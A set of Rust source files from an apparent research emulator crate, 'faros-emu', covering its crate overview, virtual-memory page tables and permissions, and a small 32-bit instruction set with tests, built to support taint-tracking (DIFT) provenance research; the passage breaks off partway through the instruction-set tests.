                let (decoded, len) = decode_at(&stream, off)
                    .map_err(|e| format!("boundary at {off} must decode: {e:?}"))?;
                prop_assert_eq!(decoded, *i);
                prop_assert_eq!(len, encode(i).len());
            }
            prop_assert!(decode_at(&stream, stream.len()).is_err());
            Ok(())
        },
    );
}

#[test]
fn display_is_nonempty() {
    check("display_is_nonempty", Config::default(), arb::instr, |instr| {
        prop_assert!(!instr.to_string().is_empty());
        Ok(())
    });
}
