//! # faros-emu — the FE32 whole-system emulator
//!
//! This crate is the QEMU substitute of the FAROS reproduction: a small
//! 32-bit little-endian machine ("FE32") with byte-encoded instructions,
//! 4 KiB paging, per-process address spaces named by a CR3-like [`mmu::Asid`],
//! and an interpreter that reports byte-granular data flows through the
//! [`cpu::CpuHooks`] trait — the substrate every layer above (guest kernel,
//! record/replay, provenance DIFT, the FAROS detector) builds on.
//!
//! ## Layout
//!
//! * [`isa`] — registers, addressing modes, the instruction set;
//! * [`encode`] — binary encoding/decoding (instructions live as guest bytes);
//! * [`asm`] — a two-pass assembler with labels, used by the workload corpus;
//! * [`text`] — a text-syntax frontend for the assembler;
//! * [`mem`] — flat physical memory and the frame allocator;
//! * [`mmu`] — page tables, permissions, translation faults;
//! * [`cpu`] — the interpreter and its DIFT-oriented hook surface;
//! * [`tcache`] — the decode-once translation cache: predecoded blocks,
//!   block-to-block chaining, and per-block taint plans that let a clean
//!   shadow state skip whole blocks of flow dispatch.
//!
//! ## Quick start
//!
//! ```
//! use faros_emu::asm::Asm;
//! use faros_emu::cpu::{Cpu, NoHooks, StepEvent};
//! use faros_emu::isa::Reg;
//! use faros_emu::mem::PhysMem;
//! use faros_emu::mmu::{AddressSpace, Asid, Perms};
//!
//! # fn main() -> Result<(), Box<dyn std::error::Error>> {
//! let mut mem = PhysMem::new(8);
//! let frame = mem.alloc_frame()?;
//! let mut aspace = AddressSpace::new(Asid(0x1000));
//! aspace.map(0x40_0000, frame, Perms::RX);
//!
//! let mut asm = Asm::new(0x40_0000);
//! asm.mov_ri(Reg::Eax, 6);
//! asm.mul_ri(Reg::Eax, 7);
//! asm.hlt();
//! mem.write(frame * 4096, &asm.assemble()?)?;
//!
//! let mut cpu = Cpu::new();
//! cpu.context_mut().eip = 0x40_0000;
//! cpu.set_asid(aspace.asid());
//! while cpu.step(&mut mem, &aspace, &mut NoHooks) != StepEvent::Halt {}
//! assert_eq!(cpu.reg(Reg::Eax), 42);
//! # Ok(())
//! # }
//! ```

#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

pub mod asm;
pub mod cpu;
pub mod encode;
pub mod isa;
pub mod mem;
pub mod mmu;
pub mod tcache;
pub mod text;

pub use cpu::{Cpu, CpuContext, CpuHooks, FlowSummary, InsnCtx, NoHooks, ShadowLoc, StepEvent};
pub use tcache::{TcStats, TransCache};
pub use isa::{Instr, Mem as MemOperand, Reg};
pub use mem::PhysMem;
pub use mmu::{Access, AddressSpace, Asid, Fault, Perms};
