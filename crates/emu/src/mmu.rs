//! Virtual memory: page tables, permissions, and address translation.
//!
//! Each guest process owns an [`AddressSpace`] identified by an [`Asid`] —
//! the moral equivalent of a page-table root. The FAROS paper uses the CR3
//! value as the *process tag* because it "uniquely identifies a process at
//! the architecture level" (§V-A); in this reproduction the `Asid` plays that
//! role and is exposed to plugins as the CR3 of the running CPU.
//!
//! The kernel half of every address space (addresses at or above
//! [`KERNEL_BASE`]) is shared: kernel pages — including the export-table
//! region FAROS taints — are mapped identically into every process, matching
//! the Windows 2 GiB/2 GiB split the paper's flagged addresses (e.g.
//! `0x83B07019`) come from.

use crate::mem::page_number;
use std::collections::BTreeMap;
use std::fmt;

/// First virtual address of the shared kernel half of every address space.
pub const KERNEL_BASE: u32 = 0x8000_0000;

/// Address-space identifier; architecturally visible as `CR3`.
///
/// # Examples
///
/// ```
/// use faros_emu::mmu::Asid;
/// let cr3 = Asid(0x3000);
/// assert_eq!(format!("{cr3}"), "cr3:0x00003000");
/// ```
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default,
)]
pub struct Asid(pub u32);

impl fmt::Display for Asid {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "cr3:{:#010x}", self.0)
    }
}

/// Page permissions.
///
/// A set-of-flags type in the C-BITFLAG spirit, implemented in-house to keep
/// the dependency footprint at the approved list.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default)]
pub struct Perms(u8);

impl Perms {
    /// No access.
    pub const NONE: Perms = Perms(0);
    /// Readable.
    pub const R: Perms = Perms(1);
    /// Writable.
    pub const W: Perms = Perms(2);
    /// Executable.
    pub const X: Perms = Perms(4);
    /// Read + write.
    pub const RW: Perms = Perms(1 | 2);
    /// Read + execute.
    pub const RX: Perms = Perms(1 | 4);
    /// Read + write + execute — what malfind-style scanners hunt for.
    pub const RWX: Perms = Perms(1 | 2 | 4);

    /// Returns `true` if every permission in `other` is present in `self`.
    #[inline]
    pub fn contains(self, other: Perms) -> bool {
        self.0 & other.0 == other.0
    }

    /// The union of two permission sets.
    #[inline]
    pub fn union(self, other: Perms) -> Perms {
        Perms(self.0 | other.0)
    }

    /// Returns `true` if the pages are writable and executable at once.
    #[inline]
    pub fn is_wx(self) -> bool {
        self.contains(Perms::W) && self.contains(Perms::X)
    }
}

impl fmt::Display for Perms {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{}{}{}",
            if self.contains(Perms::R) { 'r' } else { '-' },
            if self.contains(Perms::W) { 'w' } else { '-' },
            if self.contains(Perms::X) { 'x' } else { '-' },
        )
    }
}

/// The kind of access being attempted, for permission checks and faults.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Access {
    /// Data read.
    Read,
    /// Data write.
    Write,
    /// Instruction fetch.
    Exec,
}

impl Access {
    fn required(self) -> Perms {
        match self {
            Access::Read => Perms::R,
            Access::Write => Perms::W,
            Access::Exec => Perms::X,
        }
    }
}

/// A translation fault.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Fault {
    /// The page containing `vaddr` is not mapped.
    NotMapped {
        /// Faulting virtual address.
        vaddr: u32,
    },
    /// The page is mapped but does not permit the attempted access.
    Protection {
        /// Faulting virtual address.
        vaddr: u32,
        /// The attempted access kind.
        access: Access,
    },
}

impl fmt::Display for Fault {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Fault::NotMapped { vaddr } => write!(f, "page fault: {vaddr:#010x} not mapped"),
            Fault::Protection { vaddr, access } => {
                write!(f, "protection fault: {access:?} at {vaddr:#010x}")
            }
        }
    }
}

impl std::error::Error for Fault {}

/// One page-table entry.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct PageEntry {
    /// Physical frame number backing the page.
    pub pfn: u32,
    /// Permissions of the page.
    pub perms: Perms,
}

/// A per-process page table mapping virtual pages to physical frames.
///
/// Stored as a `BTreeMap` so iteration (snapshots, region scans) is in
/// address order and fully deterministic.
///
/// # Examples
///
/// ```
/// use faros_emu::mmu::{Access, AddressSpace, Asid, Perms};
///
/// let mut aspace = AddressSpace::new(Asid(0x1000));
/// aspace.map(0x0040_0000, 7, Perms::RX);
/// let phys = aspace.translate(0x0040_0010, Access::Read).unwrap();
/// assert_eq!(phys, 7 * 4096 + 0x10);
/// assert!(aspace.translate(0x0040_0010, Access::Write).is_err());
/// ```
#[derive(Debug, Clone)]
pub struct AddressSpace {
    asid: Asid,
    table: BTreeMap<u32, PageEntry>,
}

impl AddressSpace {
    /// Creates an empty address space with the given identifier.
    pub fn new(asid: Asid) -> AddressSpace {
        AddressSpace { asid, table: BTreeMap::new() }
    }

    /// The address-space identifier (the CR3 value).
    pub fn asid(&self) -> Asid {
        self.asid
    }

    /// Maps the page containing `vaddr` to physical frame `pfn`.
    ///
    /// Replaces any existing mapping for that page and returns it.
    pub fn map(&mut self, vaddr: u32, pfn: u32, perms: Perms) -> Option<PageEntry> {
        self.table.insert(page_number(vaddr), PageEntry { pfn, perms })
    }

    /// Removes the mapping for the page containing `vaddr`, returning it.
    pub fn unmap(&mut self, vaddr: u32) -> Option<PageEntry> {
        self.table.remove(&page_number(vaddr))
    }

    /// Changes the permissions of the page containing `vaddr`.
    ///
    /// Returns the previous permissions, or `None` if the page is unmapped.
    pub fn protect(&mut self, vaddr: u32, perms: Perms) -> Option<Perms> {
        self.table.get_mut(&page_number(vaddr)).map(|e| {
            let old = e.perms;
            e.perms = perms;
            old
        })
    }

    /// Looks up the entry for the page containing `vaddr`.
    pub fn entry(&self, vaddr: u32) -> Option<PageEntry> {
        self.table.get(&page_number(vaddr)).copied()
    }

    /// Translates a virtual address, checking permissions.
    ///
    /// # Errors
    ///
    /// Returns [`Fault::NotMapped`] for an unmapped page and
    /// [`Fault::Protection`] when the mapping forbids `access`.
    #[inline]
    pub fn translate(&self, vaddr: u32, access: Access) -> Result<u32, Fault> {
        let entry = self
            .table
            .get(&page_number(vaddr))
            .ok_or(Fault::NotMapped { vaddr })?;
        if !entry.perms.contains(access.required()) {
            return Err(Fault::Protection { vaddr, access });
        }
        Ok(entry.pfn * crate::mem::PAGE_SIZE + (vaddr & crate::mem::PAGE_MASK))
    }

    /// Iterates over `(virtual_page_number, entry)` pairs in address order.
    pub fn iter(&self) -> impl Iterator<Item = (u32, PageEntry)> + '_ {
        self.table.iter().map(|(&vpn, &e)| (vpn, e))
    }

    /// Number of mapped pages.
    pub fn mapped_pages(&self) -> usize {
        self.table.len()
    }

    /// Returns `true` if `vaddr` lies in the shared kernel half.
    pub fn is_kernel_addr(vaddr: u32) -> bool {
        vaddr >= KERNEL_BASE
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::mem::PAGE_SIZE;

    #[test]
    fn translate_applies_offset() {
        let mut a = AddressSpace::new(Asid(1));
        a.map(0x1000, 5, Perms::RW);
        assert_eq!(a.translate(0x1abc, Access::Read).unwrap(), 5 * PAGE_SIZE + 0xabc);
    }

    #[test]
    fn unmapped_page_faults() {
        let a = AddressSpace::new(Asid(1));
        assert_eq!(
            a.translate(0x2000, Access::Read),
            Err(Fault::NotMapped { vaddr: 0x2000 })
        );
    }

    #[test]
    fn protection_enforced_per_access_kind() {
        let mut a = AddressSpace::new(Asid(1));
        a.map(0x1000, 0, Perms::RX);
        assert!(a.translate(0x1000, Access::Read).is_ok());
        assert!(a.translate(0x1000, Access::Exec).is_ok());
        assert_eq!(
            a.translate(0x1000, Access::Write),
            Err(Fault::Protection { vaddr: 0x1000, access: Access::Write })
        );
    }

    #[test]
    fn protect_changes_permissions() {
        let mut a = AddressSpace::new(Asid(1));
        a.map(0x1000, 0, Perms::RW);
        assert_eq!(a.protect(0x1000, Perms::RX), Some(Perms::RW));
        assert!(a.translate(0x1000, Access::Write).is_err());
        assert!(a.translate(0x1000, Access::Exec).is_ok());
        assert_eq!(a.protect(0x9000, Perms::R), None);
    }

    #[test]
    fn unmap_removes_mapping() {
        let mut a = AddressSpace::new(Asid(1));
        a.map(0x1000, 3, Perms::RWX);
        assert!(a.unmap(0x1000).is_some());
        assert!(a.translate(0x1000, Access::Read).is_err());
        assert!(a.unmap(0x1000).is_none());
    }

    #[test]
    fn perms_algebra() {
        assert!(Perms::RWX.contains(Perms::RW));
        assert!(!Perms::RX.contains(Perms::W));
        assert_eq!(Perms::R.union(Perms::W), Perms::RW);
        assert!(Perms::RWX.is_wx());
        assert!(!Perms::RX.is_wx());
        assert_eq!(Perms::RWX.to_string(), "rwx");
        assert_eq!(Perms::RX.to_string(), "r-x");
        assert_eq!(Perms::NONE.to_string(), "---");
    }

    #[test]
    fn kernel_addr_split() {
        assert!(!AddressSpace::is_kernel_addr(0x7fff_ffff));
        assert!(AddressSpace::is_kernel_addr(KERNEL_BASE));
        assert!(AddressSpace::is_kernel_addr(0x83b0_7019)); // paper's Table II address
    }
}
