//! The FE32 instruction-set architecture.
//!
//! FE32 ("Faros Emulated 32-bit") is a small, byte-encoded, little-endian
//! 32-bit ISA designed to exercise exactly the properties whole-system DIFT
//! needs from a guest architecture:
//!
//! * code and data live as plain bytes in one physical memory, so instruction
//!   bytes themselves can carry taint (the key to flagging injected code);
//! * memory operands support base + scaled-index + displacement addressing,
//!   which is what address-dependency taint policies key on (cf. FAROS §III
//!   and the Minos/Suh heuristics discussed in §VII);
//! * an `INT` gate provides an NT-style syscall boundary;
//! * a `CR3`-like control register names the current address space, which the
//!   paper uses verbatim as the architecture-level process identity tag.
//!
//! The ISA is deliberately much smaller than x86, but every instruction class
//! the paper's taint propagation table (Table I) distinguishes is present:
//! copies (`MOV`, `LD`, `ST`), computations (`ADD`, `OR`, `MUL`, ...),
//! taint-deleting forms (`MOVI`, `XOR r, r`), and control flow.

use std::fmt;

/// A general-purpose register.
///
/// FE32 has eight GPRs named after their x86 counterparts. `Esp` doubles as
/// the stack pointer for `PUSH`/`POP`/`CALL`/`RET`.
///
/// # Examples
///
/// ```
/// use faros_emu::isa::Reg;
/// assert_eq!(Reg::Eax.index(), 0);
/// assert_eq!(Reg::from_index(7), Some(Reg::Esp));
/// ```
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
#[repr(u8)]
pub enum Reg {
    /// Accumulator; also carries the syscall number at an `INT` gate.
    Eax = 0,
    /// Base register.
    Ebx = 1,
    /// Count register.
    Ecx = 2,
    /// Data register; also carries the syscall status on return.
    Edx = 3,
    /// Source index.
    Esi = 4,
    /// Destination index.
    Edi = 5,
    /// Frame pointer.
    Ebp = 6,
    /// Stack pointer.
    Esp = 7,
}

/// Number of general-purpose registers in the FE32 register file.
pub const NUM_REGS: usize = 8;

impl Reg {
    /// All registers in index order.
    pub const ALL: [Reg; NUM_REGS] = [
        Reg::Eax,
        Reg::Ebx,
        Reg::Ecx,
        Reg::Edx,
        Reg::Esi,
        Reg::Edi,
        Reg::Ebp,
        Reg::Esp,
    ];

    /// Returns the register-file index of this register (0..8).
    #[inline]
    pub fn index(self) -> usize {
        self as usize
    }

    /// Looks a register up by its register-file index.
    ///
    /// Returns `None` if `idx` is out of range.
    #[inline]
    pub fn from_index(idx: u8) -> Option<Reg> {
        Reg::ALL.get(idx as usize).copied()
    }
}

impl fmt::Display for Reg {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = match self {
            Reg::Eax => "eax",
            Reg::Ebx => "ebx",
            Reg::Ecx => "ecx",
            Reg::Edx => "edx",
            Reg::Esi => "esi",
            Reg::Edi => "edi",
            Reg::Ebp => "ebp",
            Reg::Esp => "esp",
        };
        f.write_str(name)
    }
}

/// A memory operand: `[base + index * scale + disp]`.
///
/// The scaled-index form matters for DIFT research fidelity: FAROS §VII
/// discusses how earlier systems (Suh et al., Minos) special-cased scaled
/// index base addressing when deciding whether to propagate address
/// dependencies. Our taint engine exposes the same policy knob, so the
/// addressing mode must be expressible.
///
/// # Examples
///
/// ```
/// use faros_emu::isa::{Mem, Reg};
/// let m = Mem::base_disp(Reg::Ebx, 8);
/// assert_eq!(m.base, Some(Reg::Ebx));
/// assert_eq!(m.disp, 8);
/// let t = Mem::table(Reg::Ebx, Reg::Ecx, 4);
/// assert_eq!(t.index, Some((Reg::Ecx, 4)));
/// ```
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct Mem {
    /// Optional base register.
    pub base: Option<Reg>,
    /// Optional `(index_register, scale)`; scale must be 1, 2, 4, or 8.
    pub index: Option<(Reg, u8)>,
    /// Signed 32-bit displacement.
    pub disp: i32,
}

impl Mem {
    /// An absolute address operand `[disp]`.
    pub fn abs(addr: u32) -> Mem {
        Mem { base: None, index: None, disp: addr as i32 }
    }

    /// A `[base + disp]` operand.
    pub fn base_disp(base: Reg, disp: i32) -> Mem {
        Mem { base: Some(base), index: None, disp }
    }

    /// A `[base]` operand.
    pub fn reg(base: Reg) -> Mem {
        Mem::base_disp(base, 0)
    }

    /// A table-lookup operand `[base + index * scale]`.
    ///
    /// # Panics
    ///
    /// Panics if `scale` is not 1, 2, 4, or 8.
    pub fn table(base: Reg, index: Reg, scale: u8) -> Mem {
        assert!(
            matches!(scale, 1 | 2 | 4 | 8),
            "scale must be 1, 2, 4 or 8, got {scale}"
        );
        Mem { base: Some(base), index: Some((index, scale)), disp: 0 }
    }

    /// Returns every register the address computation reads.
    pub fn regs_used(&self) -> impl Iterator<Item = Reg> + '_ {
        self.base.into_iter().chain(self.index.map(|(r, _)| r))
    }
}

impl fmt::Display for Mem {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "[")?;
        let mut wrote = false;
        if let Some(b) = self.base {
            write!(f, "{b}")?;
            wrote = true;
        }
        if let Some((i, s)) = self.index {
            if wrote {
                write!(f, "+")?;
            }
            write!(f, "{i}*{s}")?;
            wrote = true;
        }
        if self.disp != 0 || !wrote {
            if wrote && self.disp >= 0 {
                write!(f, "+")?;
            }
            write!(f, "{:#x}", self.disp)?;
        }
        write!(f, "]")
    }
}

/// Second operand of an ALU instruction: either a register or an immediate.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Operand {
    /// A register operand.
    Reg(Reg),
    /// A 32-bit immediate operand.
    Imm(u32),
}

impl fmt::Display for Operand {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Operand::Reg(r) => write!(f, "{r}"),
            Operand::Imm(i) => write!(f, "{i:#x}"),
        }
    }
}

/// Arithmetic/logic operation selector.
///
/// Each of these is a *computation dependency* in the paper's taxonomy
/// (§III): the destination's provenance becomes the union of both operands'.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
#[repr(u8)]
pub enum AluOp {
    /// Wrapping addition.
    Add = 0,
    /// Wrapping subtraction.
    Sub = 1,
    /// Bitwise AND.
    And = 2,
    /// Bitwise OR.
    Or = 3,
    /// Bitwise XOR. `XOR r, r` is the canonical taint-deleting idiom.
    Xor = 4,
    /// Wrapping multiplication.
    Mul = 5,
    /// Logical shift left (by `src & 31`).
    Shl = 6,
    /// Logical shift right (by `src & 31`).
    Shr = 7,
}

impl AluOp {
    /// All ALU operations.
    pub const ALL: [AluOp; 8] = [
        AluOp::Add,
        AluOp::Sub,
        AluOp::And,
        AluOp::Or,
        AluOp::Xor,
        AluOp::Mul,
        AluOp::Shl,
        AluOp::Shr,
    ];

    /// Applies the operation to two 32-bit values.
    #[inline]
    pub fn apply(self, a: u32, b: u32) -> u32 {
        match self {
            AluOp::Add => a.wrapping_add(b),
            AluOp::Sub => a.wrapping_sub(b),
            AluOp::And => a & b,
            AluOp::Or => a | b,
            AluOp::Xor => a ^ b,
            AluOp::Mul => a.wrapping_mul(b),
            AluOp::Shl => a.wrapping_shl(b & 31),
            AluOp::Shr => a.wrapping_shr(b & 31),
        }
    }

    fn mnemonic(self) -> &'static str {
        match self {
            AluOp::Add => "add",
            AluOp::Sub => "sub",
            AluOp::And => "and",
            AluOp::Or => "or",
            AluOp::Xor => "xor",
            AluOp::Mul => "mul",
            AluOp::Shl => "shl",
            AluOp::Shr => "shr",
        }
    }
}

/// Condition code for conditional jumps, derived from `EFLAGS`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
#[repr(u8)]
pub enum Cond {
    /// Zero flag set (`==` after `CMP`).
    Z = 0,
    /// Zero flag clear (`!=` after `CMP`).
    Nz = 1,
    /// Signed less-than after `CMP`.
    L = 2,
    /// Signed greater-or-equal after `CMP`.
    Ge = 3,
    /// Signed greater-than after `CMP`.
    G = 4,
    /// Signed less-or-equal after `CMP`.
    Le = 5,
    /// Unsigned below (carry set) after `CMP`.
    B = 6,
    /// Unsigned above-or-equal (carry clear) after `CMP`.
    Ae = 7,
}

impl Cond {
    /// All condition codes.
    pub const ALL: [Cond; 8] = [
        Cond::Z,
        Cond::Nz,
        Cond::L,
        Cond::Ge,
        Cond::G,
        Cond::Le,
        Cond::B,
        Cond::Ae,
    ];

    fn mnemonic(self) -> &'static str {
        match self {
            Cond::Z => "jz",
            Cond::Nz => "jnz",
            Cond::L => "jl",
            Cond::Ge => "jge",
            Cond::G => "jg",
            Cond::Le => "jle",
            Cond::B => "jb",
            Cond::Ae => "jae",
        }
    }
}

/// Access width of a load or store, in bytes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
#[repr(u8)]
pub enum Width {
    /// One byte.
    B1 = 1,
    /// Two bytes (halfword).
    B2 = 2,
    /// Four bytes (word).
    B4 = 4,
}

impl Width {
    /// The width in bytes.
    #[inline]
    pub fn bytes(self) -> usize {
        self as usize
    }
}

/// A decoded FE32 instruction.
///
/// The variants map one-to-one onto the instruction classes that FAROS'
/// propagation policy distinguishes (paper Table I):
///
/// * `MovRR`, `Load`, `Store`, `Push`, `Pop` — **copy** dependencies;
/// * `Alu` — **union** (computation) dependencies, except the
///   taint-deleting idioms (`XOR r, r`);
/// * `MovRI`, `PushImm` — **delete** (immediate) forms;
/// * `Load`/`Store` with an index register — **address** dependencies;
/// * `Jcc` — **control** dependencies.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Instr {
    /// `mov dst, src` — register-to-register copy.
    MovRR {
        /// Destination register.
        dst: Reg,
        /// Source register.
        src: Reg,
    },
    /// `mov dst, imm` — the paper's `MOVI`: destination taint is deleted.
    MovRI {
        /// Destination register.
        dst: Reg,
        /// Immediate value.
        imm: u32,
    },
    /// `ld{w} dst, [mem]` — memory load.
    Load {
        /// Destination register.
        dst: Reg,
        /// Address operand.
        mem: Mem,
        /// Access width.
        width: Width,
    },
    /// `st{w} [mem], src` — memory store.
    Store {
        /// Address operand.
        mem: Mem,
        /// Source register.
        src: Reg,
        /// Access width.
        width: Width,
    },
    /// `lea dst, [mem]` — address computation without memory access.
    Lea {
        /// Destination register.
        dst: Reg,
        /// Address operand.
        mem: Mem,
    },
    /// ALU operation `op dst, src`.
    Alu {
        /// Operation selector.
        op: AluOp,
        /// Destination (and first source) register.
        dst: Reg,
        /// Second source operand.
        src: Operand,
    },
    /// `cmp a, b` — sets flags, no data result.
    Cmp {
        /// First operand.
        a: Reg,
        /// Second operand.
        b: Operand,
    },
    /// `test a, b` — sets ZF from `a & b`.
    Test {
        /// First operand.
        a: Reg,
        /// Second operand.
        b: Operand,
    },
    /// Unconditional relative jump.
    Jmp {
        /// Displacement relative to the end of this instruction.
        rel: i32,
    },
    /// Conditional relative jump.
    Jcc {
        /// Condition code.
        cond: Cond,
        /// Displacement relative to the end of this instruction.
        rel: i32,
    },
    /// Relative call: pushes the return address.
    Call {
        /// Displacement relative to the end of this instruction.
        rel: i32,
    },
    /// Indirect call through a register.
    CallReg {
        /// Register holding the target address.
        target: Reg,
    },
    /// Indirect jump through a register.
    JmpReg {
        /// Register holding the target address.
        target: Reg,
    },
    /// Return: pops the return address.
    Ret,
    /// Push a register onto the stack.
    Push {
        /// Source register.
        src: Reg,
    },
    /// Push an immediate onto the stack (taint-deleting).
    PushImm {
        /// Immediate value.
        imm: u32,
    },
    /// Pop the stack into a register.
    Pop {
        /// Destination register.
        dst: Reg,
    },
    /// Software interrupt — the syscall gate (`INT 0x2E` in the guest ABI).
    Int {
        /// Interrupt vector.
        vector: u8,
    },
    /// Halt the current thread (thread exit in the guest ABI).
    Hlt,
    /// No operation.
    Nop,
}

impl fmt::Display for Instr {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match *self {
            Instr::MovRR { dst, src } => write!(f, "mov {dst}, {src}"),
            Instr::MovRI { dst, imm } => write!(f, "mov {dst}, {imm:#x}"),
            Instr::Load { dst, mem, width } => {
                write!(f, "ld{} {dst}, {mem}", width.bytes())
            }
            Instr::Store { mem, src, width } => {
                write!(f, "st{} {mem}, {src}", width.bytes())
            }
            Instr::Lea { dst, mem } => write!(f, "lea {dst}, {mem}"),
            Instr::Alu { op, dst, src } => write!(f, "{} {dst}, {src}", op.mnemonic()),
            Instr::Cmp { a, b } => write!(f, "cmp {a}, {b}"),
            Instr::Test { a, b } => write!(f, "test {a}, {b}"),
            Instr::Jmp { rel } => write!(f, "jmp {rel:+}"),
            Instr::Jcc { cond, rel } => write!(f, "{} {rel:+}", cond.mnemonic()),
            Instr::Call { rel } => write!(f, "call {rel:+}"),
            Instr::CallReg { target } => write!(f, "call {target}"),
            Instr::JmpReg { target } => write!(f, "jmp {target}"),
            Instr::Ret => write!(f, "ret"),
            Instr::Push { src } => write!(f, "push {src}"),
            Instr::PushImm { imm } => write!(f, "push {imm:#x}"),
            Instr::Pop { dst } => write!(f, "pop {dst}"),
            Instr::Int { vector } => write!(f, "int {vector:#x}"),
            Instr::Hlt => write!(f, "hlt"),
            Instr::Nop => write!(f, "nop"),
        }
    }
}

impl Instr {
    /// Returns `true` if the instruction ends a basic block (any control
    /// transfer, syscall gate, or halt).
    ///
    /// The replay framework fires its `block_exec` callback at these
    /// boundaries, mirroring PANDA's translation-block granularity.
    pub fn ends_block(&self) -> bool {
        matches!(
            self,
            Instr::Jmp { .. }
                | Instr::Jcc { .. }
                | Instr::Call { .. }
                | Instr::CallReg { .. }
                | Instr::JmpReg { .. }
                | Instr::Ret
                | Instr::Int { .. }
                | Instr::Hlt
        )
    }
}

impl Instr {
    /// Registers whose *values* this instruction reads — data operands plus
    /// every register an address computation uses, including the implicit
    /// `esp` of the stack forms. Static transfer functions (value-set
    /// analysis, taint summaries) key on this instead of re-matching every
    /// variant.
    ///
    /// # Examples
    ///
    /// ```
    /// use faros_emu::isa::{Instr, Mem, Reg, Width};
    /// let ld = Instr::Load { dst: Reg::Eax, mem: Mem::table(Reg::Ebx, Reg::Ecx, 4), width: Width::B4 };
    /// assert_eq!(ld.regs_read(), vec![Reg::Ebx, Reg::Ecx]);
    /// assert_eq!(Instr::Push { src: Reg::Edi }.regs_read(), vec![Reg::Edi, Reg::Esp]);
    /// ```
    pub fn regs_read(&self) -> Vec<Reg> {
        match *self {
            Instr::MovRR { src, .. } => vec![src],
            Instr::MovRI { .. } => Vec::new(),
            Instr::PushImm { .. } => vec![Reg::Esp],
            Instr::Load { mem, .. } | Instr::Lea { mem, .. } => mem.regs_used().collect(),
            Instr::Store { mem, src, .. } => {
                let mut v: Vec<Reg> = mem.regs_used().collect();
                v.push(src);
                v
            }
            Instr::Alu { dst, src, .. } => match src {
                Operand::Reg(r) => vec![dst, r],
                Operand::Imm(_) => vec![dst],
            },
            Instr::Cmp { a, b } | Instr::Test { a, b } => match b {
                Operand::Reg(r) => vec![a, r],
                Operand::Imm(_) => vec![a],
            },
            Instr::Call { .. } => vec![Reg::Esp],
            Instr::CallReg { target } => vec![target, Reg::Esp],
            Instr::JmpReg { target } => vec![target],
            Instr::Ret | Instr::Pop { .. } => vec![Reg::Esp],
            Instr::Push { src } => vec![src, Reg::Esp],
            Instr::Jmp { .. }
            | Instr::Jcc { .. }
            | Instr::Int { .. }
            | Instr::Hlt
            | Instr::Nop => Vec::new(),
        }
    }

    /// Registers this instruction (re)defines, including the implicit `esp`
    /// adjustment of the stack forms. `Int` reports the kernel-written
    /// result registers (`eax` carries the status on return).
    ///
    /// # Examples
    ///
    /// ```
    /// use faros_emu::isa::{Instr, Reg};
    /// assert_eq!(Instr::Pop { dst: Reg::Ebx }.regs_written(), vec![Reg::Ebx, Reg::Esp]);
    /// assert!(Instr::Ret.regs_written().contains(&Reg::Esp));
    /// ```
    pub fn regs_written(&self) -> Vec<Reg> {
        match *self {
            Instr::MovRR { dst, .. }
            | Instr::MovRI { dst, .. }
            | Instr::Load { dst, .. }
            | Instr::Lea { dst, .. }
            | Instr::Alu { dst, .. } => vec![dst],
            Instr::Pop { dst } => vec![dst, Reg::Esp],
            Instr::Push { .. } | Instr::PushImm { .. } | Instr::Ret => vec![Reg::Esp],
            Instr::Call { .. } | Instr::CallReg { .. } => vec![Reg::Esp],
            Instr::Int { .. } => vec![Reg::Eax],
            Instr::Store { .. }
            | Instr::Cmp { .. }
            | Instr::Test { .. }
            | Instr::Jmp { .. }
            | Instr::Jcc { .. }
            | Instr::JmpReg { .. }
            | Instr::Hlt
            | Instr::Nop => Vec::new(),
        }
    }

    /// The explicit memory operand this instruction loads from, with its
    /// access width. The implicit stack reads of `pop`/`ret` are reported
    /// via [`Instr::regs_read`] on `esp`, not here.
    pub fn mem_read(&self) -> Option<(Mem, Width)> {
        match *self {
            Instr::Load { mem, width, .. } => Some((mem, width)),
            _ => None,
        }
    }

    /// The explicit memory operand this instruction stores to, with its
    /// access width. The implicit stack writes of `push`/`call` are not
    /// reported here.
    pub fn mem_written(&self) -> Option<(Mem, Width)> {
        match *self {
            Instr::Store { mem, width, .. } => Some((mem, width)),
            _ => None,
        }
    }
}

/// The syscall interrupt vector used by the guest ABI (mirrors NT's
/// `int 0x2e` system-service dispatch on 32-bit Windows).
pub const SYSCALL_VECTOR: u8 = 0x2e;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reg_index_round_trip() {
        for r in Reg::ALL {
            assert_eq!(Reg::from_index(r.index() as u8), Some(r));
        }
        assert_eq!(Reg::from_index(8), None);
        assert_eq!(Reg::from_index(255), None);
    }

    #[test]
    fn alu_semantics() {
        assert_eq!(AluOp::Add.apply(2, 3), 5);
        assert_eq!(AluOp::Add.apply(u32::MAX, 1), 0);
        assert_eq!(AluOp::Sub.apply(3, 5), u32::MAX - 1);
        assert_eq!(AluOp::And.apply(0b1100, 0b1010), 0b1000);
        assert_eq!(AluOp::Or.apply(0b1100, 0b1010), 0b1110);
        assert_eq!(AluOp::Xor.apply(0xff, 0xff), 0);
        assert_eq!(AluOp::Mul.apply(7, 6), 42);
        assert_eq!(AluOp::Shl.apply(1, 4), 16);
